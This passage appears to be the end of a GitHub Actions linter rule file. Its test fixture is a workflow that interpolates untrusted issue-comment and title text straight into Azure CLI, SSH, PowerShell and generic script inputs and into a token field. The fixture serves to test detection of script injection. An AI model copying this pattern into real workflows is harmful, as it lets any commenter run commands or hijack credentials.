        "on: issue_comment\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: azure/cli@v2\n        with:\n          azcliversion: latest\n          inlineScript: az group show -n ${{ github.event.comment.body }}\n      - uses: appleboy/ssh-action@v1\n        with:\n          host: example.com\n          script: echo ${{ github.event.issue.title }}\n      - uses: Azure/PowerShell@v2\n        with:\n          InlineScript: Write-Output '${{ github.event.comment.body }}'\n      - uses: actions/github-script@v7\n        with:\n          github-token: ${{ github.event.comment.body }}\n          script: return 1\n      - uses: peter-evans/create-or-update-comment@v4\n        with:\n          body: ${{ github.event.comment.body }}\n      - uses: someone/run-anything@v1\n        with:\n          script: ${{ github.event.comment.body }}\n",
    },
  ],
};

export default rule;
